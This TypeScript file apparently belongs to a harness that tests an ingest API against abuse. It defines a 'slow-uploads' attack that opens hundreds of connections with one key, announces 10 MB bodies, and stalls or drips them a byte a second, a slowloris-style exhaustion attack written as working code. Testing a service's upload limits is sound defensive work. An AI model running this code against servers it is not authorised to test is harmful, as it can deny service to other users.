import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from './attack.ts'
import { ATTACKER_ADDRESS } from './raw-request.ts'

const UPLOADS = { small: 100, full: 400 }
const DRIP_EVERY_MS = 1000

/** Bodies that are announced and never sent, or sent a byte a second. */
export const slowUploads: Attack = {
  name: 'slow-uploads',
  clause: 'uploads at once, least rate of a body',
  what: 'One key begins some hundred uploads; half of them stand still, half send a byte a second.',
  async run({ api, attacker }, size, signal) {
    const head = [
      'POST /ingest/events HTTP/1.1',
      `Host: ${api.host}:${api.port}`,
      `Authorization: Bearer ${attacker.key}`,
      'Content-Type: application/json',
      'Content-Length: 10000000',
    ]
    const begin = async (): Promise<Socket> => {
      const from = ATTACKER_ADDRESS === undefined ? {} : { localAddress: ATTACKER_ADDRESS }
      const socket = connect({ host: api.host, port: api.port, ...from })
      socket.on('error', () => undefined)
      await once(socket, 'connect')
      socket.resume().write(`${head.join('\r\n')}\r\n\r\n[`)
      return socket
    }
    const sockets = await Promise.all(Array.from({ length: UPLOADS[size] }, begin))
    while (!signal.aborted) {
      for (const socket of sockets.slice(sockets.length / 2)) if (socket.writable) socket.write(' ')
      await sleep(DRIP_EVERY_MS, undefined, { signal }).catch(() => undefined)
    }
    const open = sockets.filter(socket => !socket.closed).length
    for (const socket of sockets) socket.destroy()
    return `${sockets.length} were begun, ${open} are open at the end`
  },
}
